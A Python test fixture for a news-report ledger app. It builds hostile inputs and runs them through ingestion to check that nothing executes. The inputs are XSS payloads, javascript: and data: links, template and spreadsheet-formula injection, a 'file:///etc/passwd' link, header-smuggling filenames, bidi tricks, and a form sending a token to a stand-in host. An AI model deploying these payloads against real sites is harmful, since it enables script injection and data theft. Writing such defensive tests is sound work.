"""Reports made to harm whoever opens them, in a case of their own: script, markup, styles, bidi, size, odd bytes.

All of it goes in through the real `add`. Whatever script gets to run sets `window.hacked`, and every address that a
page could be made to ask for is of `else.example`.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from pathlib import Path

from sayso.ledger.asking.incidents import incident_rows
from sayso.ledger.asking.reports import report, report_list
from sayso.ledger.asking.sources import speaker_list
from sayso.ledger.case import Case, made
from sayso.ledger.decisions import decide, decisions, withdraw
from sayso.ledger.looks import By, Verdict, looked, looked_blind
from sayso.ledger.marks import mark
from sayso.ledger.problems import CaseProblem
from sayso.ledger.saved import saved
from sayso.record import Given
from sayso.work.adding import Adding, add_all
from tests.desk.hostile_people import at_work

AT = "2031-06-01T08:00:00Z"
CANARY = "window.hacked=1"
ELSEWHERE = "else.example"
BIDI = "\u202e\u2066\u202d\u2067\u200f"
"""Overrides and isolates that are never closed."""
UNSEEN = "\u200b\u200d\ufeff\u2060\u00ad"
TOWER = "Z" + "\u0335\u0321\u0322\u0347\u0353\u0315\u031b" * 40
LONG = "o" * 100_000

MARKUP = (
    f"<script>{CANARY}</script>",
    f"<img src=x onerror={CANARY}>",
    f"<svg onload={CANARY}><animate onbegin={CANARY} attributeName=x></svg>",
    f'"><script>{CANARY}</script><q a="',
    f"' autofocus onfocus='{CANARY}' tabindex='1",
    f"</title></textarea></style></noscript></template><script>{CANARY}</script>",
    f"</bdi></q></p></main><iframe src=//{ELSEWHERE}/></iframe>",
    f'<a href="javascript:{CANARY}">open</a>',
    f"<style>@import '//{ELSEWHERE}/a.css'; * {{ display: none !important }}</style>",
    '<div style="position:fixed;inset:0;background:red;z-index:9">covered</div>',
    f'<base href="//{ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=//{ELSEWHERE}/">',
    f'<form action="//{ELSEWHERE}/"><input name="token"><button autofocus>go</button></form>',
    f'<b hx-get="//{ELSEWHERE}/" hx-trigger="load" hx-on:load="{CANARY}" data-copy="x" data-rule="y">go</b>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CANARY}>",
    f"&lt;script&gt;{CANARY}&lt;/script&gt; &#60;script&#62;{CANARY}&#60;/script&#62;",
    f"%3Cscript%3E{CANARY}%3C/script%3E",
    "{{ 7*7 }} {% for x in token %}{{ x }}{% endfor %} ${7*7} #{7*7} <%= 7*7 %> {{ config }}",
    "=HYPERLINK(A1) +1 -1 @SUM(1)",
)

SPOKEN = "Harbour master Ada {0} Brond said on Friday that two ferries were shelled at Osk port."
QUOTED = '"We never shelled {0} the ferries," Coastal Minister Lev Marn told Delta One on Saturday.'
TOLD = "The Coastal Ministry of {0} denied that its forces shelled two ferries at Osk port."


def text_report() -> str:
    """Every piece of markup where a speaker, a quotation and a place are read."""
    lines = [f"Ferries {MARKUP[0]} shelled at Osk {MARKUP[1]}", "", "By Ana <b onclick=x> Tester", ""]
    lines.append("OSK, April 5 (River Wire) - Two ferries were shelled at Osk port on Friday, officials said.")
    for piece in MARKUP:
        lines += ["", f"{SPOKEN.format(piece)} {QUOTED.format(piece)} {TOLD.format(piece)}"]
    return "\n".join(lines)


def turned_report() -> str:
    """Characters that turn, hide and pile up, inside names, quotations and words that are told."""
    parts = [f"Ferries{BIDI} shelled{UNSEEN}", ""]
    for odd in (BIDI, UNSEEN, TOWER, "\x00\x01\x1b[31m\x7f\x9b", "\ufffe\uffff\U0010ffff", "\u2028\u2029\x85\x0b\x0c"):
        parts += [f"{SPOKEN.format(odd)} {QUOTED.format(odd)}", ""]
    return "\n".join(parts)


def long_report() -> str:
    """One word of a hundred thousand letters in a sentence, and one in a quotation."""
    return f"Ferries shelled\n\n{SPOKEN.format(LONG)}\n\n{QUOTED.format(LONG[:20_000])}\n"


def many_quotations(count: int) -> str:
    """Quotations without end, each by somebody else."""
    told = (f'"The sea is calm at pier {n}," fisher Ola Vand{n} said on Friday.' for n in range(count))
    return "A calm sea\n\n" + "\n\n".join(told) + "\n"


def html_report() -> str:
    """A page whose own markup is live, whose metadata is hostile, and whose visible text looks like markup."""
    shown = "".join(
        f"<p>{html.escape(SPOKEN.format(piece))} {html.escape(QUOTED.format(piece))}</p>" for piece in MARKUP
    )
    attribute = html.escape(MARKUP[3], quote=True)
    return f"""<!doctype html><html><head><title>{html.escape(MARKUP[5])} Ferries</title>
<base href="https://{ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=https://{ELSEWHERE}/">
<meta property="og:site_name" content="{attribute} Wire"><meta property="og:title" content="{attribute} Ferries">
<link rel="canonical" href="javascript:{CANARY}"><meta property="og:url" content="data:text/html,{CANARY}">
<meta name="author" content="{attribute}"><meta name="date" content="2031-04-05">
<style>body {{ background: url(https://{ELSEWHERE}/) }}</style><script>{CANARY}</script>
<script type="application/ld+json">{{"@type": "NewsArticle", "headline": "{html.escape(MARKUP[0])}",
"publisher": {{"name": "</script><script>{CANARY}</script>"}}}}</script></head>
<body onload="{CANARY}"><article><h1>Ferries {html.escape(MARKUP[1])} shelled</h1>
<p>OSK, April 5 (River Wire) - Two ferries were shelled at Osk port on Friday, harbour master Ada Brond said.</p>
{shown}<svg onload="{CANARY}"><text>drawn</text></svg><img src="https://{ELSEWHERE}/x.png" onerror="{CANARY}">
<iframe srcdoc="<script>{CANARY}</script>"></iframe></article></body></html>"""


def table_report(rows: int = 400, columns: int = 60) -> str:
    """A table wider and longer than any window."""
    row = "<tr>" + "".join(f"<td>ferry-{n}-of-the-harbour</td>" for n in range(columns)) + "</tr>"
    return (
        "<html><head><title>Ferries</title></head><body><article><h1>Ferries</h1><p>Harbour master Ada Brond said on "
        f"Friday that two ferries were shelled at Osk port.</p><table>{row * rows}</table></article></body></html>"
    )


def feed() -> str:
    """A feed whose items link to scripts and to data."""
    items = "".join(
        f"<item><title>{html.escape(piece)} ferries</title><link>{html.escape(link)}</link>"
        f"<guid>{html.escape(piece)}-{n}</guid><pubDate>Sat, 05 Apr 2031 08:00:00 GMT</pubDate>"
        f"<description>{html.escape(TOLD.format(piece))}</description></item>"
        for n, (piece, link) in enumerate(zip(MARKUP, _links(), strict=False))
    )
    title = f"<title>{html.escape(MARKUP[0])}</title>"
    return f'<?xml version="1.0"?><rss version="2.0"><channel>{title}{items}</channel></rss>'


def _links() -> Iterator[str]:
    yield f"javascript:{CANARY}"
    yield f"data:text/html,<script>{CANARY}</script>"
    yield f"https://{ELSEWHERE}/\"onmouseover='{CANARY}'"
    yield f"//{ELSEWHERE}/x"
    yield f" jAvAsCrIpT:{CANARY}"
    yield "file:///etc/passwd"
    yield f"vbscript:{CANARY}"


MIXED = (
    "Ferries shelled: العبّارات تعرّضت للقصف\n\n"
    "OSK, April 5 (River Wire) - Harbour master Salma Odeh (سلمى عودة) said on Friday that two ferries were shelled at "
    "Osk port.\n\n"
    "\u201cقُصفت عبّارتان في الميناء\u201d (\u201ctwo ferries were shelled in the port\u201d), she told the newspaper "
    "الميناء on Saturday.\n\n"
    "The Coastal Ministry, in a post titled \u05d4\u05d5\u05d3\u05e2\u05d4 \u05de\u05d9\u05d5\u05d7\u05d3\u05ea 7/4, "
    "denied that its forces shelled two ferries at Osk port.\n\n"
    "قالت مديرة الميناء سلمى عودة إن عبّارتين قُصفتا يوم الجمعة. وأضافت: «لم يُصب أحد» (2 ferries, 0 dead).\n"
)
"""English with Arabic and Hebrew in it, and a paragraph of Arabic with English and digits in it."""


def files(folder: Path, *, quotations: int = 300) -> list[Path]:
    """All of it as files, under names that are hostile too."""
    folder.mkdir(parents=True)
    named: dict[str, bytes] = {
        f"<img src=x onerror={CANARY}>.txt": text_report().encode(),
        "quotes\"'`&amp;{{7*7}}.html": html_report().encode(),
        f"turned{BIDI}name.txt": turned_report().encode(),
        "new\nline\rset-cookie: a=b.txt": long_report().encode(),
        "many.txt": many_quotations(quotations).encode(),
        "table.html": table_report().encode(),
        "feed.xml": feed().encode(),
        "mixed-العربية.txt": MIXED.encode(),
        "bad-bytes.txt": (SPOKEN.format("Q") + "\n\n" + QUOTED.format("Q"))
        .encode()
        .replace(b"Q", b"\xed\xa0\x80\xff\xfe"),
        "=cmd|calc.txt": f"=1+1 ferries\n\n{SPOKEN.format('=2+5')} {QUOTED.format('@SUM')}\n".encode(),
    }
    made_files = []
    for name, held in named.items():
        (folder / name).write_bytes(held)
        made_files.append(folder / name)
    return made_files


def hostile_case(folder: Path, *, quotations: int = 300) -> Case:
    """A case of all of it, ruled on for hostile reasons by somebody with a hostile name."""
    case = made(folder / "case", at=AT, who=MARKUP[0], title=f"{MARKUP[3]}{BIDI}{{{{7*7}}}}")
    rows = folder / "rows"
    rows.mkdir(parents=True)
    (rows / "parties.toml").write_text(_party(), encoding="utf-8")
    order = Adding(f"{MARKUP[1]}{BIDI}", lambda: AT, Given(publisher=f"{MARKUP[3]} Wire"), folders=(rows,))
    outcomes = list(
        add_all(case, [str(path) for path in files(folder / "in", quotations=quotations)], order, workers=1)
    )
    assert not [one.problem for one in outcomes if one.what == "failed"], outcomes
    rule(case)
    at_work(case, MARKUP, BIDI, at=AT)
    return case


def _party() -> str:
    name = MARKUP[1].replace("'", "")
    return f"""[[row]]
id = "coast"
kind = "state"
name = '{name} Coast'
also = ["Coastal Ministry", "Coastal"]
example = "A note from [Coastal Ministry] was read."
"""


def rule(case: Case) -> None:
    """Rulings of many sorts with hostile reasons, one of them withdrawn."""
    ids = [row.id for row in report_list(case, limit=100)]
    parts = [f"{one}#{saying.id}" for one in ids[:6] for saying in report(case, one).reading.statements[:2]]
    speakers = [row.id for row in speaker_list(case, limit=3)]
    incidents = [row.id for row in incident_rows(case, by="time", limit=2)]
    asked: list[tuple[str, list[str], str | None]] = [
        *(("accept" if n % 2 else "reject", [part], None) for n, part in enumerate(parts)),
        ("speaks_for", speakers[:1], "UKR"),
        ("position", speakers[1:2], "witness"),
        ("same_incident", incidents, None),
    ]
    ruled = [_ruled(case, *one, why=MARKUP[n % len(MARKUP)] + BIDI) for n, one in enumerate(asked)]
    made_of = [one for one in ruled if one]
    assert len(made_of) > 5
    withdraw(case, made_of[0], who=MARKUP[4], at=AT)
    looked_twice(case, parts[-1])


def looked_twice(case: Case, part: str) -> None:
    """Two readers with hostile names and reasons who differ, a hostile note, and a queue with a hostile name."""
    first, second = By(f"{MARKUP[3]}{BIDI}", AT), By(MARKUP[7], AT)
    with case.reading() as connection:
        before = tuple(one.id for one in decisions(connection, about=part))
    looked(case, Verdict(part, "reject", f"{MARKUP[5]}{BIDI}", queue="unseen", instead_of=before), first)
    mark(case, kind="second_look", about=part, value=MARKUP[0], who=first.who, at=AT)
    mark(case, kind="noted", about=part, value=f"{MARKUP[6]}{BIDI}", who=second.who, at=AT)
    looked_blind(case, Verdict(part, "accept", MARKUP[8]), second)
    saved(case, page="queue", name=f"{MARKUP[0][:80]}{BIDI}", query=f"q={MARKUP[1]}", who=first.who, at=AT)


def _ruled(case: Case, ruling: str, about: list[str], value: str | None, *, why: str) -> str | None:
    try:
        return decide(case, ruling=ruling, about=about, value=value, who=f"{MARKUP[4]}{BIDI}", why=why, at=AT).id
    except CaseProblem:
        return None
